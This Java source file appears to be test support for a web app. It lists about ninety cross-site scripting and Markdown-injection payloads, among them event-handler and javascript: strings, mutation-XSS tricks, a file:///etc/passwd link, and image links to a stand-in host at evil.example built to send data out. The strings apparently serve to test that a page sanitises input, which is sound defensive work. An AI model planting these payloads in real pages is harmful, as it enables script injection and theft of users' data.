package io.kamerton.testing;

import java.util.List;
import java.util.stream.Stream;

/** Texts that make a careless page run a script, load something or send its reader away; one for each known class. */
public final class HostileTexts {

    /** Markup as it may stand in any text. */
    public static final List<String> MARKUP = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<scr<script>ipt>alert(2)</scr</script>ipt>",
            "<script\n>alert(3)</script\n>",
            "<img src=x onerror=alert(4)>",
            "<img/src=x/onerror=alert(5)>",
            "<img src=\"x\" OnErRoR=\"alert(6)\">",
            "<img src=`x` onerror=`alert(7)`>",
            "<svg onload=alert(8)>",
            "<svg><script>alert(9)</script></svg>",
            "<svg><animate onbegin=alert(10) attributeName=x dur=1s>",
            "<svg><use href=\"data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgb25sb2FkPSJhbGVydCgxMSkiLz4=#x\"/></svg>",
            "<svg><a xlink:href=\"javascript:alert(12)\"><text y=20>press</text></a></svg>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(13)&gt;\">",
            "<math><mi xlink:href=\"javascript:alert(14)\">press</mi></math>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(15)>\">",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(16)>",
            "<svg></p><style><a id=\"</style><img src=1 onerror=alert(17)>\">",
            "<style><!--</style><script>alert(18)//--></script>",
            "<textarea></textarea><img src=x onerror=alert(19)>",
            "<title></title><img src=x onerror=alert(20)>",
            "<xmp><p title=\"</xmp><img src=x onerror=alert(21)>\">",
            "<template><img src=x onerror=alert(22)></template>",
            "<select><template><img src=x onerror=alert(23)></template></select>",
            "<iframe srcdoc=\"<script>parent.alert(24)</script>\"></iframe>",
            "<iframe src=\"javascript:alert(25)\"></iframe>",
            "<object data=\"data:text/html,<script>alert(26)</script>\"></object>",
            "<embed src=\"javascript:alert(27)\">",
            "<a href=\"javascript:alert(28)\">press</a>",
            "<a href=\"jav&#x09;ascript:alert(29)\">press</a>",
            "<a href=\" &#14; javascript:alert(30)\">press</a>",
            "<a href=\"data:text/html,<script>alert(31)</script>\">press</a>",
            "<form action=\"javascript:alert(32)\"><button>press</button></form>",
            "<button formaction=\"javascript:alert(33)\" form=x>press</button>",
            "<input autofocus onfocus=alert(34)>",
            "<details open ontoggle=alert(35)>x</details>",
            "<video><source onerror=alert(36)></video>",
            "<audio src=x onerror=alert(37)>",
            "<body onload=alert(38)>",
            "<marquee onstart=alert(39)>x</marquee>",
            "<div style=\"background:url(javascript:alert(40))\">x</div>",
            "<div style=\"position:fixed;inset:0;z-index:9999\">all of the page</div>",
            "<base href=\"//evil.example/\">",
            "<meta http-equiv=refresh content=\"0;url=javascript:alert(41)\">",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<div id=x tabindex=1 onfocus=alert(42)></div>",
            "<vaadin-button onclick=alert(43)>press</vaadin-button>",
            "<![CDATA[<img src=x onerror=alert(44)>]]>",
            "<?xml version=\"1.0\"?><x xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(45)</script></x>",
            "</span></div></vaadin-app-layout><img src=x onerror=alert(46)>",
            "&lt;img src=x onerror=alert(47)&gt;",
            "&amp;lt;script&amp;gt;alert(48)&amp;lt;/script&amp;gt;",
            "\"><img src=x onerror=alert(49)>",
            "' onmouseover='alert(50)",
            "javascript:alert(51)",
            "{{constructor.constructor('alert(52)')()}}",
            "${alert(53)}",
            "\u003cimg src=x onerror=alert(54)\u003e",
            "<img src=x onerror\u2028=alert(55)>",
            "<a href=\"/logout\">press</a>");

    /** What only Markdown makes of it. */
    public static final List<String> MARKDOWN = List.of(
            "[press](javascript:alert(60))",
            "[press](JaVaScRiPt:alert(61))",
            "[press](java\tscript:alert(62))",
            "[press](&#x6A;avascript:alert(63))",
            "[press](javascript&colon;alert(64))",
            "[press](vbscript:alert(65))",
            "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCg2Nik8L3NjcmlwdD4=)",
            "[press](//evil.example/x)",
            "[press](/logout)",
            "[press](\\\\evil.example)",
            "[press](https:/\\evil.example)",
            "[press](file:///etc/passwd)",
            "[press](http://x.example \"onmouseover=alert(67)\")",
            "[press](http://x.example\"onmouseover=alert(68))",
            "<javascript:alert(69)>",
            "<https://x.example/\"onclick=alert(70)>",
            "[a]: javascript:alert(71)\n\n[a]",
            "![x](http://evil.example/leak?q=secret)",
            "![x](data:image/svg+xml,<svg onload=alert(72)>)",
            "![x][i]\n\n[i]: http://evil.example/leak",
            "[![x](http://evil.example/leak)](javascript:alert(73))",
            "![<img src=x onerror=alert(74)>](x)",
            "```\"><script>alert(75)</script>\nx\n```",
            "``` html onload=alert(76)\n<script>alert(77)</script>\n```",
            "`<img src=x onerror=alert(78)>`",
            "| a | <img src=x onerror=alert(79)> |\n|---|---|\n| [b](javascript:alert(80)) | ![x](http://evil.example/t) |",
            "> <script>\n> alert(81)\n> </script>",
            "- <svg onload=alert(82)>\n- [x](javascript:alert(83))",
            "# <img src=x onerror=alert(84)>",
            "\\<script>alert(85)\\</script>",
            "<div>\n\n[x](javascript:alert(86))\n\n</div>",
            "a <!-- --!> <img src=x onerror=alert(87)> -->");

    private HostileTexts() {}

    public static List<String> all() {
        return Stream.concat(MARKUP.stream(), MARKDOWN.stream()).toList();
    }
}
